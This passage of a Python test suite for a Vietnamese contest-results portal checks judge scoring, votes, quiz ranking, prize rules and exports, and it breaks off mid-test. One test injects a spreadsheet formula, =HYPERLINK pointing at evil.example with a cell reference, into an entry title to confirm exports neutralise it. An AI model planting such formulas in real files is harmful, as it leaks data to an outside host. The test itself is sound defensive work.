"""Judging, votes, quiz and prizes end to end, for the prize structures of real plans."""

from __future__ import annotations

import csv
import json

import pytest
import yaml
from openpyxl import load_workbook

import build as cli
from contest_portal.formats.tables import write_csv, write_xlsx
from contest_portal.judging.results import ContestResults
from contest_portal.model import ContestRecord
from contest_portal.pipeline import load_portal

from .conftest import write_mkdocs_yml

JUDGES = [
    {"id": "gk-1", "name": "Giám khảo Một", "role": "jury", "unit": "Sở Nội vụ"},
    {"id": "gk-2", "name": "Giám khảo Hai", "role": "jury", "unit": "Đài Truyền thanh"},
    {"id": "gk-3", "name": "Giám khảo Ba", "role": "jury", "unit": "UBND xã 1"},
]
CRITERIA = [
    {"id": "noi-dung", "name": "Nội dung", "max_points": 60, "weight": 1},
    {"id": "hinh-thuc", "name": "Hình thức", "max_points": 40, "weight": 1},
]


def _results(contest: ContestRecord) -> ContestResults:
    """The contest's computed results (every contest loaded here has them)."""
    assert contest.results is not None
    return contest.results


def _contest(tiers: list[dict], n_units: int, published: bool = True, **judging) -> dict:
    return {
        "year": 2025,
        "title": "Cuộc thi thử",
        "organizer": {"name": "UBND huyện"},
        "entry_kinds": ["article"],
        "unit_categories": [{"id": "xa", "name": "Xã"}],
        "units": [{"id": f"xa-{i}", "name": f"UBND xã {i}", "category": "xa"} for i in range(1, n_units + 1)],
        "organization": {"people": JUDGES},
        "judging": {"criteria": CRITERIA, "tie_breaks": ["criterion:noi-dung", "votes"], **judging},
        "prizes": {"tiers": tiers},
        "results": {"published": published},
    }


def _make(tree, contest: dict, n_entries: int, collective_every: int = 0) -> None:
    folder = tree.root / "2025-thu"
    folder.mkdir(parents=True)
    (folder / "contest.yml").write_text(yaml.safe_dump(contest, allow_unicode=True), encoding="utf-8")
    units = len(contest["units"])
    for i in range(1, n_entries + 1):
        entry = folder / f"e-{i:02d}"
        entry.mkdir()
        collective = collective_every and i % collective_every == 0
        data = {
            "title": f"Tác phẩm {i:02d}",
            "kind": "article",
            "article": "bai.md",
            "authors": [{"name": f"Tác giả {i:02d}"}],
            "unit": f"xa-{(i - 1) % units + 1}",
            "entrant": "collective" if collective else "individual",
            "consent": {"publication": True},
        }
        (entry / "entry.yml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
        (entry / "bai.md").write_text(f"Bài số {i}\n", encoding="utf-8")


def _sheets(tree, n_entries: int, score=lambda judge, i: (60 - i, 40 - i / 2), fmt="csv", skip=()) -> None:
    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
    for j, judge in enumerate(JUDGES):
        rows = [
            [f"e-{i:02d}", f"Tác phẩm {i:02d}", "", *score(j, i), ""]
            for i in range(1, n_entries + 1)
            if (judge["id"], i) not in skip
        ]
        header = [
            "Mã tác phẩm",
            "Tên tác phẩm",
            "Đường dẫn",
            "Nội dung (tối đa 60)",
            "Hình thức (tối đa 40)",
            "Ghi chú",
        ]
        writer = write_xlsx if fmt == "xlsx" else write_csv
        writer(folder / f"{judge['id']}.{fmt}", header, rows)


def _winners(portal) -> dict[str, list[str]]:
    return {t.tier.id: [w.key for w in t.winners] for t in _results(portal.contests[0]).tiers}


def test_vinh_linh_structure_with_people_choice(tree, tmp_path):
    tiers = [
        {"id": "nhat", "name": "Giải Nhất", "count": 1},
        {"id": "nhi", "name": "Giải Nhì", "count": 1},
        {"id": "ba", "name": "Giải Ba", "count": 2},
        {"id": "kk", "name": "Giải Khuyến khích", "count": 3},
        {"id": "binh-chon", "name": "Bình chọn nhiều nhất", "count": 1, "basis": "public_vote"},
    ]
    _make(tree, _contest(tiers, n_units=12, publish_ranking=True), 12)
    # judge gk-3 sits in UBND xã 1: e-01 is in xa-1, so that score is excluded (conflict of interest)
    _sheets(tree, 12)
    write_csv(
        tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv",
        ["Mã tác phẩm", "Số bình chọn", "Nguồn", "Thời điểm"],
        [[f"e-{i:02d}", 100 + (i == 9) * 900, "Fanpage Đài Truyền thanh", "2024-10-31 17:00"] for i in range(1, 13)],
    )
    portal = load_portal(tree.root, probe=False)
    assert [p.code for p in portal.contests[0].problems] == ["JUR006"]
    assert _winners(portal) == {
        "nhat": ["e-01"],
        "nhi": ["e-02"],
        "ba": ["e-03", "e-04"],
        "kk": ["e-05", "e-06", "e-07"],
        "binh-chon": ["e-09"],
    }
    ranking = _results(portal.contests[0]).ranking
    assert ranking[0].judges == 2 and ranking[1].judges == 3
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    page = (tmp_path / "site" / "2025-thu" / "ket-qua" / "index.html").read_text(encoding="utf-8")
    assert "Tác phẩm 09" in page and "17:00 ngày 31/10/2024" in page and "Bảng xếp hạng" in page
    gallery = (tmp_path / "site" / "2025-thu" / "bai-du-thi" / "index.html").read_text(encoding="utf-8")
    assert gallery.count('class="cp-badge"') == 8


def test_province_structure_with_units_and_quiz(tree, tmp_path):
    tiers = [
        {"id": "nhat", "name": "Giải Nhất", "count": 1, "amount": 10_000_000},
        {"id": "nhi", "name": "Giải Nhì", "count": 2, "amount": 7_000_000},
        {"id": "ba", "name": "Giải Ba", "count": 3, "amount": 5_000_000},
        {"id": "kk", "name": "Giải Khuyến khích", "count": 4, "amount": 3_000_000},
        {
            "id": "video-don-vi",
            "name": "Video xuất sắc của đơn vị",
            "count": 10,
            "amount": 500_000,
            "recipient": "collective",
        },
        {
            "id": "trac-nghiem",
            "name": "Giải trắc nghiệm",
            "count": 10,
            "amount": 500_000,
            "basis": "quiz",
            "recipient": "individual",
        },
    ]
    _make(tree, _contest(tiers, n_units=30), 40, collective_every=2)
    _sheets(tree, 40)
    quiz = [[f"Thí sinh {k:02d}", f"UBND xã {k}", 20 - k // 2, f"0:{10 + k:02d}"] for k in range(1, 16)]
    write_xlsx(
        tree.root / "2025-thu" / "_ket-qua" / "trac-nghiem.xlsx",
        ["Họ và tên", "Đơn vị", "Số câu đúng", "Thời gian"],
        quiz,
    )
    portal = load_portal(tree.root, probe=False)
    winners = _winners(portal)
    assert winners["nhat"] == ["e-01"] and winners["nhi"] == ["e-02", "e-03"]
    assert winners["kk"] == ["e-07", "e-08", "e-09", "e-10"]
    assert winners["video-don-vi"] == [f"e-{i:02d}" for i in range(12, 31, 2)]  # collectives not yet awarded
    # 20 - k//2 correct: Thí sinh 01 (20) beats 02 and 03 (19) ; equal answers → less time wins
    assert winners["trac-nghiem"][:3] == [
        "Thí sinh 01 – UBND xã 1",
        "Thí sinh 02 – UBND xã 2",
        "Thí sinh 03 – UBND xã 3",
    ]
    assert len(winners["trac-nghiem"]) == 10
    results = _results(portal.contests[0])
    assert results.total_money == 10_000_000 + 14_000_000 + 15_000_000 + 12_000_000 + 5_000_000 + 5_000_000
    config = write_mkdocs_yml(tmp_path, extra="site_url: https://cong.example.gov.vn/cuoc-thi/\n")
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    site = tmp_path / "site" / "2025-thu"
    page = (site / "ket-qua" / "index.html").read_text(encoding="utf-8")
    assert "61.000.000 đ" in page and "Thí sinh 01" in page and "10.000.000 đ" in page
    data = json.loads((site / "ket-qua-2025-thu.json").read_text(encoding="utf-8"))
    assert data["total_amount"] == 61_000_000 and data["prizes"][0]["winners"][0]["entry"] == "e-01"
    rows = list(csv.reader((site / "ket-qua-2025-thu.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert len(rows) == 1 + 1 + 2 + 3 + 4 + 10 + 10
    sheet = load_workbook(site / "ket-qua-2025-thu.xlsx").active
    assert sheet.max_row == len(rows)
    certificate = (site / "giay-chung-nhan" / "nhat-1" / "index.html").read_text(encoding="utf-8")
    assert "<svg" in certificate and "https://cong.example.gov.vn/cuoc-thi/2025-thu/bai-du-thi/e-01/" in certificate


def test_district_structure_small_amounts_and_decision(tree):
    tiers = [
        {"id": "nhat", "name": "Giải Nhất", "count": 1, "amount": 1_000_000},
        {"id": "nhi", "name": "Giải Nhì", "count": 1, "amount": 700_000},
        {"id": "ba", "name": "Giải Ba", "count": 1, "amount": 500_000},
        {"id": "kk", "name": "Giải Khuyến khích", "count": 2, "amount": 300_000},
    ]
    contest = _contest(tiers, n_units=6)
    contest["results"]["decision"] = {
        "number": "125/QĐ-BTC",
        "date": "2024-11-09",
        "winners": {"nhat": ["e-02"], "nhi": ["e-01"]},
    }
    _make(tree, contest, 6)
    _sheets(tree, 6, fmt="xlsx")
    portal = load_portal(tree.root, probe=False)
    results = _results(portal.contests[0])
    assert _winners(portal) == {"nhat": ["e-02"], "nhi": ["e-01"], "ba": ["e-03"], "kk": ["e-04", "e-05"]}
    assert results.total_money == 2_800_000
    differences = [p for p in portal.contests[0].problems if p.code == "RES002"]
    assert len(differences) == 2 and "e-01" in differences[0].message("en")


def test_unbreakable_tie_at_a_prize_boundary_is_reported(tree):
    tiers = [{"id": "nhat", "name": "Giải Nhất", "count": 1}]
    _make(tree, _contest(tiers, n_units=3), 3)
    _sheets(tree, 3, score=lambda judge, i: (50, 30))
    portal = load_portal(tree.root, probe=False)
    tie = [p for p in portal.contests[0].problems if p.code == "RES001"]
    assert tie and tie[0].is_error and "e-01, e-02, e-03" in tie[0].message("en")


def test_bad_sheets_are_reported_with_codes(tree):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
    header = ["Mã tác phẩm", "Tên tác phẩm", "Đường dẫn", "Nội dung (tối đa 60)", "Hình thức (tối đa 40)"]
    write_csv(
        folder / "gk-1.csv",
        header,
        [
            ["e-01", "", "", 61, 30],
            ["e-02", "", "", 50, ""],
            ["e-09", "", "", 1, 1],
            ["e-03", "", "", 50, 30],
            ["e-03", "", "", 50, 30],
        ],
    )
    write_csv(folder / "nguoi-la.csv", header, [["e-01", "", "", 1, 1]])
    write_csv(folder / "gk-2.csv", ["Mã", "Điểm"], [["e-01", 5]])
    portal = load_portal(tree.root, probe=False)
    codes = sorted(p.code for p in portal.contests[0].problems)
    assert codes == ["JUR001", "JUR002", "JUR003", "JUR004", "JUR005", "JUR007", "JUR008"]
    located = {p.code: p.where.line for p in portal.contests[0].problems}
    assert located["JUR003"] == 2 and located["JUR002"] == 4 and located["JUR005"] == 6
    assert all(p.is_error for p in portal.contests[0].problems if p.code != "JUR006")


def test_nothing_about_scores_is_published_before_the_results(tree, tmp_path):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3, published=False), 3)
    _sheets(tree, 3)
    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
    write_csv(folder / "gk-1.csv", ["Mã tác phẩm", "Nội dung", "Hình thức"], [["e-01", 99, 1]])  # out of range
    portal = load_portal(tree.root, probe=False)
    assert portal.errors == []  # judging problems are warnings until the results are published
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    site = tmp_path / "site"
    assert not list(site.rglob("ket-qua-*")) and not (site / "2025-thu" / "giay-chung-nhan").exists()
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "cp-badge" not in text and "cp-winners" not in text


def test_jury_sheets_command(tree, tmp_path):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["jury-sheets", "-f", str(config), "--out", str(tmp_path / "sheets")]) == 0
    made = sorted(p.name for p in (tmp_path / "sheets" / "2025-thu").iterdir())
    assert made == ["gk-1.csv", "gk-1.xlsx", "gk-2.csv", "gk-2.xlsx", "gk-3.csv", "gk-3.xlsx", "tac-pham"]
    # anonymous: each work copied beside the sheets under its id, not its file name nor its page
    assert sorted(p.name for p in (tmp_path / "sheets" / "2025-thu" / "tac-pham").iterdir()) == [
        "e-01.md",
        "e-02.md",
        "e-03.md",
    ]
    sheet = load_workbook(tmp_path / "sheets" / "2025-thu" / "gk-1.xlsx").active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Mã tác phẩm", "Tên tác phẩm", "Đường dẫn"] and "Tác giả" not in header  # anonymous
    assert sheet.cell(2, 1).value == "e-01" and sheet.cell(2, 3).value == "tac-pham/e-01.md"
    # filled in and put back, the sheets are read without problems
    target = tree.root / "2025-thu" / "_ket-qua" / "diem"
    target.mkdir(parents=True)
    for path in (tmp_path / "sheets" / "2025-thu").glob("*.xlsx"):
        book = load_workbook(path)
        for row in range(2, book.active.max_row + 1):
            book.active.cell(row, 4, 50 - row)
            book.active.cell(row, 5, 30)
        book.save(target / path.name)
    portal = load_portal(tree.root, probe=False)
    assert [p.code for p in portal.contests[0].problems] == ["JUR006"]  # gk-3 sits in UBND xã 1
    assert [w.key for w in _results(portal.contests[0]).tiers[0].winners] == ["e-01"]


@pytest.mark.parametrize(
    "count,winner,said",
    [
        (5, "e-01", []),
        # four judges: all count (the tool's minimum for dropping, which the plan does not state, is said)
        (
            4,
            "e-02",
            [
                "Điểm của mọi tác phẩm là trung bình của tất cả giám khảo đã chấm, không bỏ điểm cao nhất và "
                "thấp nhất, vì có dưới 5 giám khảo chấm (quy định mặc định; kế hoạch không nêu số giám khảo tối "
                "thiểu để bỏ điểm)."
            ],
        ),
    ],
)
def test_drop_extremes_with_five_judges(tree, count, winner, said):
    from contest_portal.core.i18n import Translator

    global JUDGES
    saved = JUDGES
    JUDGES = [{"id": f"gk-{k}", "name": f"GK {k}", "role": "jury"} for k in range(1, count + 1)]
    try:
        _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=2, drop_extremes=True), 2)
        # e-01: one judge gives 0 (an outlier); without extremes e-01 wins (90 to 80), with them e-02
        # (4 judges: (0 + 3 × 90) / 4 = 67.5)
        _sheets(
            tree, 2, score=lambda judge, i: (0, 0) if (judge == 0 and i == 1) else ((55, 35) if i == 1 else (50, 30))
        )
    finally:
        JUDGES = saved
    results = _results(load_portal(tree.root, probe=False).contests[0])
    assert [w.key for w in results.tiers[0].winners] == [winner]
    assert [Translator("vi").render(text) for text in results.applied_defaults] == said
    if said:  # validate says how to change it
        from contest_portal.office.results_report import change_hint

        assert "results.decision.winners" in change_hint(results.applied_defaults[0], Translator("vi"))
        assert "'judging.drop_extremes: true'" in change_hint(results.applied_defaults[0], Translator("en"))


def _most_voted_holds_the_first_prize(tree) -> dict:
    """Four entries judged in order e-01…e-04; e-01 also has the most votes, e-04 the next most."""
    tiers = [
        {"id": "nhat", "name": "Giải Nhất", "count": 1},
        {"id": "nhi", "name": "Giải Nhì", "count": 1},
        {"id": "binh-chon", "name": "Giải Bình chọn", "count": 1, "basis": "public_vote"},
    ]
    contest = _contest(tiers, n_units=4)
    _make(tree, contest, 4)
    _sheets(tree, 4)
    write_csv(
        tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv",
        ["Mã tác phẩm", "Số bình chọn"],
        [["e-01", 500], ["e-02", 10], ["e-03", 20], ["e-04", 30]],
    )
    return contest


def test_one_prize_per_entry_rule(tree):
    contest = _most_voted_holds_the_first_prize(tree)
    assert _winners(load_portal(tree.root, probe=False)) == {"nhat": ["e-01"], "nhi": ["e-02"], "binh-chon": ["e-04"]}
    contest["prizes"]["one_prize_per_entry"] = False
    (tree.root / "2025-thu" / "contest.yml").write_text(yaml.safe_dump(contest, allow_unicode=True), encoding="utf-8")
    assert _winners(load_portal(tree.root, probe=False)) == {"nhat": ["e-01"], "nhi": ["e-02"], "binh-chon": ["e-01"]}


def test_minimum_score_and_special_prizes_from_the_decision(tree):
    tiers = [
        {"id": "nhat", "name": "Giải Nhất", "count": 1, "min_score": 95},
        {"id": "kk", "name": "Giải Khuyến khích", "count": 2, "min_score": 80},
        {"id": "dac-biet", "name": "Giải đặc biệt", "count": 1, "basis": "special"},
    ]
    contest = _contest(tiers, n_units=4)
    contest["results"]["decision"] = {"number": "9/QĐ", "winners": {"dac-biet": ["e-04"]}}
    _make(tree, contest, 4)
    _sheets(tree, 4, score=lambda judge, i: (50 - 10 * i, 40))  # totals 80, 70, 60, 50
    portal = load_portal(tree.root, probe=False)
    assert _winners(portal) == {"nhat": [], "kk": ["e-01"], "dac-biet": ["e-04"]}
    codes = sorted(p.code for p in portal.contests[0].problems)
    assert codes == ["JUR006", "RES002", "RES006", "RES006"]  # special differs from none; two tiers short
    short = next(p for p in portal.contests[0].problems if p.code == "RES006" and p.values["tier"] == "Giải Nhất")
    assert short.message("vi").endswith("chưa đủ tác phẩm được chấm đạt điều kiện (đối tượng, điểm tối thiểu)")
    assert short.message("en").endswith("not enough scored entries meet the conditions (recipient, minimum score)")


# --- hardening: findings of the review -------------------------------------------------


def test_winner_without_consent_blocks_publication(tree, tmp_path):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
    entry = tree.root / "2025-thu" / "e-01" / "entry.yml"
    entry.write_text(
        entry.read_text(encoding="utf-8").replace("publication: true", "publication: false"), encoding="utf-8"
    )
    _sheets(tree, 3)
    portal = load_portal(tree.root, probe=False)
    assert [p.code for p in portal.errors] == ["RES005"]
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 1


def test_a_tie_settled_by_the_decision_no_longer_blocks(tree):
    contest = _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3)
    _make(tree, contest, 3)
    _sheets(tree, 3, score=lambda judge, i: (50, 30))
    assert "RES001" in [p.code for p in load_portal(tree.root, probe=False).errors]
    contest["results"]["decision"] = {"number": "1/QĐ", "winners": {"nhat": ["e-02"]}}
    (tree.root / "2025-thu" / "contest.yml").write_text(yaml.safe_dump(contest, allow_unicode=True), encoding="utf-8")
    portal = load_portal(tree.root, probe=False)
    assert portal.errors == [] and _winners(portal) == {"nhat": ["e-02"]}


def test_exports_and_sheets_never_hold_live_formulas(tree, tmp_path):
    contest = _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3)
    _make(tree, contest, 3)
    entry = tree.root / "2025-thu" / "e-01" / "entry.yml"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    entry.write_text(entry.read_text(encoding="utf-8").replace("Tác phẩm 01", evil.replace('"', "'")), encoding="utf-8")
    _sheets(tree, 3)
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    book = load_workbook(tmp_path / "site" / "2025-thu" / "ket-qua-2025-thu.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    text = (tmp_path / "site" / "2025-thu" / "ket-qua-2025-thu.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    assert cli.main(["jury-sheets", "-f", str(config), "--out", str(tmp_path / "sheets")]) == 0
    sheet = load_workbook(tmp_path / "sheets" / "2025-thu" / "gk-1.xlsx").active
    assert sheet.cell(2, 2).data_type == "s"
    assert "'=HYPERLINK" in (tmp_path / "sheets" / "2025-thu" / "gk-1.csv").read_text(encoding="utf-8-sig")


def test_filled_xlsx_wins_over_a_stale_csv(tree):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
    _sheets(tree, 3, fmt="xlsx")
    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
    for judge in JUDGES:  # the empty CSV the jury-sheets command also wrote
        write_csv(folder / f"{judge['id']}.csv", ["Mã tác phẩm", "Nội dung", "Hình thức"], [["e-01", "", ""]])
    portal = load_portal(tree.root, probe=False)
    assert [p.code for p in portal.contests[0].problems] == ["JUR006"] and _winners(portal) == {"nhat": ["e-01"]}


def test_quiz_ties_duplicates_blank_names_and_decomposed_names(tree):
    import unicodedata

    tiers = [{"id": "tn", "name": "Trắc nghiệm", "count": 2, "basis": "quiz"}]
    _make(tree, _contest(tiers, n_units=2), 2)
    _sheets(tree, 2)
    rows = [
        ["Trần Thị Bình", "UBND xã 1", 10, "1:35"],
        ["Trần Thị Bình", "UBND xã 1", 10, "1:30"],
        ["", "UBND xã 2", 12, 50],
        ["Lê C", "UBND xã 2", 10, 95],
        [unicodedata.normalize("NFD", "Đỗ Thị Ánh"), "UBND xã 1", 10, 95],
    ]
    write_csv(
        tree.root / "2025-thu" / "_ket-qua" / "trac-nghiem.csv",
        ["Họ và tên", "Đơn vị", "Số câu đúng", "Thời gian"],
        rows,
    )
    portal = load_portal(tree.root, probe=False)
    codes = sorted(p.code for p in portal.contests[0].problems)
    assert codes == ["JUR006", "RES001", "RES003", "RES010"]
    tie = next(p for p in portal.contests[0].problems if p.code == "RES001")
    assert "Lê C" in tie.message("en") and "Đỗ Thị Ánh" in tie.message("en")
    assert len(_winners(portal)["tn"]) == 2  # the organizers settle the three-way tie in the decision


@pytest.mark.parametrize(
    "content,code",
    [
        (None, "RES003"),  # an XLSX renamed .csv
        ("Mã tác phẩm,Số bình chọn\ne-01,inf\n", "VOT013"),
        ("Mã tác phẩm,Số bình chọn\ne-01,412.5\n", "VOT013"),
        ("Mã tác phẩm,Số bình chọn\ne-01,-3\n", "VOT013"),
        ("Mã tác phẩm,Số bình chọn\ne-01,10\ne-01,20\n", "VOT009"),
    ],
)
def test_bad_vote_files_are_reported_not_crashed(tree, tmp_path, content, code):
    _make(tree, _contest([{"id": "bc", "name": "Bình chọn", "count": 1, "basis": "public_vote"}], n_units=2), 2)
    path = tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv"
    if content is None:
        write_xlsx(tmp_path / "x.xlsx", ["Mã tác phẩm", "Số bình chọn"], [["e-01", 1]])
        path.parent.mkdir(parents=True)
        path.write_bytes((tmp_path / "x.xlsx").read_bytes())
    else:
        path.parent.mkdir(parents=True)
        path.write_text(content, encoding="utf-8")
    portal = load_portal(tree.root, probe=False)
    assert code in [p.code for p in portal.contests[0].problems]


def test_vote_counts_written_the_vietnamese_way(tree):
    _make(tree, _contest([{"id": "bc", "name": "Bình chọn", "count": 1, "basis": "public_vote"}], n_units=2), 2)
    write_csv(
        tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv",
        ["Mã tác phẩm", "Số bình chọn"],
        [["e-01", "1.204"], ["e-02", "988"]],
    )
    portal = load_portal(tree.root, probe=False)
    assert _winners(portal) == {"bc": ["e-01"]} and _results(portal.contests[0]).tiers[0].winners[0].votes == 1204


def test_decimal_comma_in_a_csv_sheet_is_not_silently_misread(tree):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=2), 2)
    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
    folder.mkdir(parents=True)
    (folder / "gk-1.csv").write_text("Mã tác phẩm,Nội dung,Hình thức\ne-01,50,5,30\ne-02,40,30\n", encoding="utf-8")
    portal = load_portal(tree.root, probe=False)
    assert "JUR011" in [p.code for p in portal.contests[0].problems]


def test_decision_checked_against_the_prize_structure(tree):
    tiers = [{"id": "nhat", "name": "Giải Nhất", "count": 1}, {"id": "nhi", "name": "Giải Nhì", "count": 1}]
    contest = _contest(tiers, n_units=3)
    contest["results"]["decision"] = {"winners": {"nhat": ["e-01", "e-02"], "nhi": ["e-01"]}}
    _make(tree, contest, 3)
    _sheets(tree, 3)
    codes = sorted(p.code for p in load_portal(tree.root, probe=False).contests[0].problems)
    assert "RES007" in codes and "RES009" in codes


def test_invalid_entries_are_not_judged(tree):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
    entry = tree.root / "2025-thu" / "e-03" / "entry.yml"
    entry.write_text(entry.read_text(encoding="utf-8").replace("unit: xa-3", "unit: xa-9"), encoding="utf-8")
    _sheets(tree, 3)
    problems = load_portal(tree.root, probe=False).contests[0].problems
    assert {p.code for p in problems} == {"JUR006", "JUR009"}
    assert all(not p.is_error for p in problems if p.code == "JUR009")


def test_judge_ids_and_tie_breaks_are_checked(tree):
    contest = _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=2)
    contest["organization"]["people"] = [
        {"name": "Nguyễn Văn Nam", "role": "jury"},
        {"name": "Nguyễn  văn Nam", "role": "jury"},
    ]
    contest["judging"]["tie_breaks"] = ["criterion:typo", "random-thing"]
    _make(tree, contest, 2)
    codes = sorted(p.code for p in load_portal(tree.root, probe=False).contests[0].problems)
    assert codes.count("CON011") == 1 and codes.count("CON012") == 2


def test_judging_details_stay_out_of_logs_before_publication(tree, tmp_path, capsys):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3, published=False), 3)
    _sheets(tree, 3)
    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
    write_csv(folder / "gk-2.csv", ["Mã tác phẩm", "Nội dung", "Hình thức"], [["e-01", 59.5, 77]])
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    out = capsys.readouterr()
    logs = (out.out + out.err).replace(str(tmp_path), "<tmp>")  # (the folder's name may hold "77": pytest-177)
    assert "77" not in logs and "JUR003" not in logs and "validate --html" in logs
    assert cli.main(["validate", "-f", str(config), "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["confidential"] >= 1 and all(p["code"] != "JUR003" for p in report["problems"])
    assert cli.main(["validate", "-f", str(config), "--html", str(tmp_path / "r.html")]) == 0
    assert "JUR003" in (tmp_path / "r.html").read_text(encoding="utf-8")


def test_an_entry_with_a_broken_file_is_not_judged_rather_than_unknown(tree):
    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
    (tree.root / "2025-thu" / "e-03" / "entry.yml").write_text("title: [không đóng\n", encoding="utf-8")
    _sheets(tree, 3)
    write_csv(tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv", ["Mã tác phẩm", "Số bình chọn"], [["e-03", 5]])
    problems = load_portal(tree.root, probe=False).contests[0].problems
    codes = [p.code for p in problems]
    assert "JUR002" not in codes and codes.count("JUR009") == 4 and "YAML001" in codes


def test_one_prize_per_entry_applied_by_default_is_named(tree):
    """The plan says nothing of one prize per entry: the tool's default is said where it changed
    the winners (the most voted entry already holds the first prize), in both languages."""
    from contest_portal.core.i18n import Translator

    contest = _most_voted_holds_the_first_prize(tree)
    tiers = contest["prizes"]["tiers"]
    results = _results(load_portal(tree.root, probe=False).contests[0])
    assert [Translator("vi").render(text) for text in results.applied_defaults] == [
        "Tác phẩm “Tác phẩm 01” xếp thứ 1 về lượt bình chọn (500 lượt) nhưng đã nhận Giải Nhất; theo quy "
        "định mặc định mỗi tác phẩm chỉ nhận một giải (kế hoạch không nêu quy định này), Giải Bình chọn được trao "
        "cho “Tác phẩm 04” – xếp thứ 2 về lượt bình chọn (30 lượt)."
    ]
    assert (
        Translator("en")
        .render(results.applied_defaults[0])
        .startswith("Entry “Tác phẩm 01” placed 1 by public votes (500 votes) but already received Giải Nhất;")
    )
    # an entry whose authors did not agree to publication is never named by its title
    entry = tree.root / "2025-thu" / "e-04" / "entry.yml"
    entry.write_text(
        entry.read_text(encoding="utf-8").replace("publication: true", "publication: false"), encoding="utf-8"
    )
    results = _results(load_portal(tree.root, probe=False).contests[0])
    assert (
        Translator("vi")
        .render(results.applied_defaults[0])
        .endswith("được trao cho Tác phẩm không công bố – xếp thứ 2 về lượt bình chọn (30 lượt).")
    )
    # stated by the plan (either way), or settled by the committee's decision: no default to name
    for stated, decision in ((True, None), (False, None), (None, {"winners": {"binh-chon": ["e-03"]}})):
        contest["prizes"] = {"tiers": tiers} | ({} if stated is None else {"one_prize_per_entry": stated})
        contest["results"]["decision"] = decision
        (tree.root / "2025-thu" / "contest.yml").write_text(
            yaml.safe_dump(contest, allow_unicode=True), encoding="utf-8"
        )
        assert _results(load_portal(tree.root, probe=False).contests[0]).applied_defaults == []


def test_the_note_names_every_entry_skipped_for_its_prize_and_formats_counts(tree):
    """The most voted entries all hold jury prizes: the vote prize goes to the most voted one
    without a prize, and the note names each one skipped, its votes as the locale writes them."""
    from contest_portal.core.i18n import Translator

    _most_voted_holds_the_first_prize(tree)
    write_csv(
        tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv",
        ["Mã tác phẩm", "Số bình chọn"],
        [["e-01", 1204], ["e-02", 988], ["e-03", 20], ["e-04", 30]],
    )
    results = _results(load_portal(tree.root, probe=False).contests[0])
    assert _winners(load_portal(tree.root, probe=False)) == {"nhat": ["e-01"], "nhi": ["e-02"], "binh-chon": ["e-04"]}
    assert [Translator("vi").render(text) for text in results.applied_defaults] == [
        "Tác phẩm “Tác phẩm 01” xếp thứ 1 về lượt bình chọn (1.204 lượt) nhưng đã nhận Giải Nhất; Tác phẩm "
        "“Tác phẩm 02” xếp thứ 2 về lượt bình chọn (988 lượt) nhưng đã nhận Giải Nhì; theo quy định mặc định mỗi "
        "tác phẩm chỉ nhận một giải (kế hoạch không nêu quy định này), Giải Bình chọn được trao cho “Tác phẩm 04” "
        "– xếp thứ 3 về lượt bình chọn (30 lượt)."
    ]
    assert "(1,204 votes) but already received Giải Nhất; Entry “Tác phẩm 02” placed 2" in Translator("en").render(
        results.applied_defaults[0]
    )


def test_the_proposal_and_the_decision_name_the_default_rule(tree, tmp_path):
    from docx import Document

    _most_voted_holds_the_first_prize(tree)
    config = write_mkdocs_yml(tmp_path, entries=str(tree.root))
    assert cli.main(["documents", "-f", str(config), "--out", str(tmp_path / "reports")]) == cli.EXIT_OK
    said = (
        "Ghi chú: Tác phẩm “Tác phẩm 01” xếp thứ 1 về lượt bình chọn (500 lượt) nhưng đã nhận Giải Nhất; theo "
